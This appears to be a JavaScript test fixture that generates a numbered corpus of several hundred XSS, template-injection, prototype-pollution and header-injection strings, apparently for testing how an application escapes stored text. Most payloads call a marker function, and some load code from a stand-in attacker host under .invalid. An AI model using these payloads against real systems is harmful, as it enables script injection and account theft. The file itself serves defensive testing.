// Hostile text for every place that keeps text: at least 300 lines, put together from families, the same in each run.
// Each line has a number of its own, so that a page can be searched for it, and calls __xss (or alert) where it would run.
// Addresses that it would ask are below .invalid, which exists nowhere.

const families = {};
let count = 0;
function family(name, make, ...parts) {
  const lines = (families[name] = []);
  const walk = (chosen) => {
    if (chosen.length === parts.length) {
      count += 1;
      lines.push(make(`n${count}`, ...chosen));
      return;
    }
    for (const part of parts[chosen.length]) walk([...chosen, part]);
  };
  walk([]);
}

const breakouts = ['', '">', "'>", '</title>', '</textarea>', '</script>', '--><!-- -->', ']]>', '</style>', '</svg>', '</noscript>', '\\">', '주문">'];
const loaders = ['img src=x', 'svg', 'body', 'iframe', 'input autofocus', 'details open', 'video src=x', 'object data=x', 'select autofocus'];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart'];

family('script', (n, out) => `${out}<script>__xss('${n}')</script>`, breakouts);
family(
  'script letters',
  (n, tag) => tag.replaceAll('#', n),
  [
    '<ScRiPt>__xss("#")</sCrIpT>',
    '<script\t>__xss("#")</script\t>',
    '<script/x>__xss("#")</script>',
    '<<script>__xss("#")//<</script>',
    '<scr<script>ipt>__xss("#")</scr</script>ipt>',
    '<script src=//evil.invalid/#.js></script>',
    '<script type=module>import("https://evil.invalid/#.mjs")</script>',
    '<script>/*주문*/__xss(`#`)/*끝*/</script>',
    '<script>\u2028__xss("#")</script>',
    '<script nonce="">__xss("#")</script>',
    '<link rel=modulepreload href=https://evil.invalid/#.mjs>',
    '<script>setTimeout("__xss(\'#\')")</script>',
  ],
);
family('handler', (n, tag, on) => `<${tag} ${on}=__xss('${n}')>`, loaders, handlers);
family(
  'attribute',
  (n, quote, on) => `${quote} ${on}=${quote || '"'}__xss('${n}')${quote || '"'} x=${quote}`,
  ['"', "'", '`', '&quot;'],
  ['onmouseover', 'onclick accesskey=x', 'onfocus autofocus tabindex=0', 'style=animation:x onanimationend', 'onbeforeinput', 'onscrollend'],
);
family(
  'svg and math',
  (n, text) => text.replaceAll('#', n),
  [
    '<svg><script>__xss("#")</script></svg>',
    '<svg><animate onbegin=__xss("#") attributeName=x dur=1s>',
    '<svg><set attributeName=href to=javascript:__xss("#")><a><text>눌러 보세요</text></a></svg>',
    '<svg><a xlink:href="javascript:__xss(\'#\')"><text y=20>#</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>__xss(\'#\')</script></svg>#x"/></svg>',
    '<svg><foreignObject><body onload=__xss("#")></foreignObject></svg>',
    '<svg><image href=x onerror=__xss("#")></svg>',
    '<svg><desc><![CDATA[</desc><script>__xss("#")</script>]]></svg>',
    '<svg><style>@import"//evil.invalid/#.css"</style></svg>',
    '<math><mtext></p><img src=x onerror=__xss("#")></math>',
    '<math href="javascript:__xss(\'#\')">눌러</math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=__xss("#")></annotation-xml></math>',
    '<math><mi><table><mi><style><!--</style><img src=x onerror=__xss("#")>',
  ],
);
family(
  'address',
  (n, tag, address) => tag.replace('@', address.replaceAll('#', n)),
  ['<a href="@">열기</a>', '<iframe src="@"></iframe>', '<form action="@"><button>보내기</button></form>', '@', '<object data="@"></object>'],
  [
    'javascript:__xss(%27#%27)',
    'JaVaScRiPt:__xss(`#`)',
    'java\tscript:__xss(`#`)',
    '\u0001javascript:__xss(`#`)',
    'javascript://evil.invalid/%0a__xss(`#`)',
    'data:text/html,<script>parent.__xss(`#`)</script>',
    'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMSk8L3NjcmlwdD4=##',
    'data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22__xss(`#`)%22/>',
    'vbscript:__xss("#")',
    'blob:https://evil.invalid/#',
    '//evil.invalid/#',
  ],
);
family(
  'style',
  (n, text) => text.replaceAll('#', n),
  [
    '<style>*{background:url(//evil.invalid/#)}</style>',
    '<style>@import url(https://evil.invalid/#.css);</style>',
    '<div style="background:url(//evil.invalid/#)">주문</div>',
    '<div style="width:expression(__xss(\'#\'))">',
    '<style>@keyframes x{}</style><b style="animation:x" onanimationstart=__xss("#")>',
    '<link rel=stylesheet href=//evil.invalid/#.css>',
    '</style><style>body{display:none}/*#*/',
    '<div style="position:fixed;inset:0;z-index:99999;background:red">#</div>',
    'red;} body{display:none} /* # */',
    'var(--x,url(//evil.invalid/#))',
  ],
);
family(
  'mutation',
  (n, text) => text.replaceAll('#', n),
  [
    '<template><img src=x onerror=__xss("#")></template>',
    '<template shadowrootmode=open><img src=x onerror=__xss("#")></template>',
    '<noscript><p title="</noscript><img src=x onerror=__xss(\'#\')>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__xss("#")>',
    '<svg></p><style><a id="</style><img src=x onerror=__xss(\'#\')>">',
    '<table><td><select><svg><style><img src=x onerror=__xss("#")></style></svg></select>',
    '<xmp><p title="</xmp><img src=x onerror=__xss(\'#\')>">',
    '<plaintext>#<img src=x onerror=__xss("#")>',
    '<textarea><img src="</textarea><img src=x onerror=__xss(\'#\')>">',
    '<title>&lt;/title&gt;&lt;img src=x onerror=__xss("#")&gt;</title>',
    '<!--><img src=x onerror=__xss("#")>-->',
    '<? foo="><script>__xss(\'#\')</script>">',
    '<![CDATA[><img src=x onerror=__xss("#")>]]>',
    '<img src=x onerror=__xss("#")//',
    '<iframe srcdoc="<script>parent.__xss(\'#\')</script>">',
    '<iframe srcdoc="&lt;img src=x onerror=parent.__xss(&apos;#&apos;)&gt;">',
    '<base href=//evil.invalid/#/>',
    '<meta http-equiv=refresh content="0;url=//evil.invalid/#">',
    '<meta http-equiv=Content-Security-Policy content="default-src *"><!-- # -->',
    '<object type=text/html data=//evil.invalid/#>',
    '<embed src=//evil.invalid/#.svg>',
    '<portal src=//evil.invalid/#></portal>',
    '<button popovertarget=x>#</button><p id=x popover onbeforetoggle=__xss("#")>',
    '<marquee onstart=__xss("#")>주문이 들어왔습니다</marquee>',
  ],
);
family(
  'template language',
  (n, text) => text.replaceAll('#', n),
  [
    '{{constructor.constructor("__xss(\'#\')")()}}',
    '${__xss("#")}',
    '#{__xss("n")}#',
    '<%= __xss("#") %>',
    '{{ trigger.__proto__.polluted = "#" }}',
    '{% raw %}<img src=x onerror=__xss("#")>{% endraw %}',
    '[[__xss("#")]]',
    '{{# with }}<script>__xss("#")</script>{{/ with }}',
    '`;__xss("#");`',
    "';__xss('#');//",
    '";__xss("#");//',
    '\\";__xss("#");//',
    '</script>{"#":1}<script>__xss("#")',
    '}});__xss("#");({{',
    '{"$$typeof":"Symbol(react.element)","type":"img","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=__xss(\'#\')>"}}}',
    'dangerouslySetInnerHTML={{__html:"<img src=x onerror=__xss(\'#\')>"}}',
    'v-html="<img src=x onerror=__xss(\'#\')>"',
    'ng-init="$eval.constructor(\'__xss(1)\')()" #',
    '[눌러](javascript:__xss("#"))',
    '![그림](x"onerror="__xss(\'#\'))',
    '<https://evil.invalid/#|javascript:__xss(1)>',
  ],
);
family(
  'encoding',
  (n, text) => text.replaceAll('#', n),
  [
    '&lt;script&gt;__xss("#")&lt;/script&gt;',
    '&amp;lt;img src=x onerror=__xss("#")&amp;gt;',
    '&#60;img src=x onerror=__xss("##")&#62;',
    '&#x3c;img src=x onerror=__xss("##")&#x3e;',
    '%3Cscript%3E__xss(%22#%22)%3C/script%3E',
    '%253Cscript%253E__xss(%2522#%2522)%253C/script%253E',
    '\\u003cscript\\u003e__xss("#")\\u003c/script\\u003e',
    '\\x3cimg src=x onerror=__xss("#")\\x3e',
    '+ADw-script+AD4-__xss("#")+ADw-/script+AD4-',
    '＜script＞__xss("#")＜/script＞',
    '<img src=x onerror\u00a0=__xss("#")>',
    '<img\u000csrc=x\u000conerror=__xss("#")>',
    '<img src=x one\u200brror=__xss("#")>',
    '\ufeff<script>__xss("#")</script>',
    '\u202e<script>__xss("#")</script>\u202c',
    '\u2066거꾸로\u2069<img src=x onerror=__xss("#")>',
    '<ſcript>__xss("#")</ſcript>',
    '<İmg src=x onerror=__xss("#")>',
    'é\u0301\u0302<svg onload=__xss("#")>',
    '👩‍👩‍👧<svg onload=__xss("#")>🏳️‍🌈',
    '\ud7ff\ue000<svg onload=__xss("#")>',
    '한\u1100\u1161\u11a8<svg onload=__xss("#")>',
  ],
);
family(
  'prototype',
  (n, text) => text.replaceAll('#', n),
  [
    '__proto__[polluted]=#',
    '__proto__.polluted=#',
    'constructor[prototype][polluted]=#',
    '{"__proto__":{"polluted":"#"}}',
    '{"constructor":{"prototype":{"polluted":"#"}}}',
    '__proto__ #',
    'constructor #',
    'toString #',
    'hasOwnProperty #',
    '__defineGetter__ #',
    'valueOf #',
    'prototype #',
  ],
);
family(
  'header lookalike',
  (n, text) => text.replaceAll('#', n),
  [
    'x%0d%0aSet-Cookie:%20ieum_session=#',
    'x\\r\\nContent-Type: text/html\\r\\n\\r\\n<script>__xss("#")</script>',
    'text/html; charset=utf-7 #',
    'attachment; filename="#.html"',
    'default-src * #',
    'Set-Cookie: a=#; Path=/',
    'multipart/form-data; boundary=<svg onload=__xss("#")>',
    'Bearer <img src=x onerror=__xss("#")>',
    'ko-KR"><script>__xss("#")</script>',
    'application/json; profile="javascript:__xss(`#`)"',
    'W/"#"; <script>__xss("#")</script>',
    'http://evil.invalid/#?<script>__xss("#")</script>',
  ],
);
family(
  'korean',
  (n, before, attack) => `${before} ${attack.replaceAll('#', n)} 문 앞에 놓아 주세요`,
  ['김민지님,', '민지<br>', '"주문번호"', '장바구니가 비었어요', "'배송' 메모:", '환불(요청)'],
  [
    '<img src=x onerror=__xss("#")>',
    '<script>__xss("#")</script>',
    '"><svg onload=__xss("#")>',
    "' onmouseover=__xss('#') '",
    '<a href=javascript:__xss("#")>확인</a>',
    '${__xss("#")}{{__xss("#")}}',
  ],
);

// [{family, text}], none twice.
export const corpus = Object.entries(families).flatMap(([name, lines]) => lines.map((text) => ({ family: name, text })));

// Names that every object has from its prototype: as names of fields, headers, steps, people.
export const prototypeNames = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype', '__defineGetter__'];
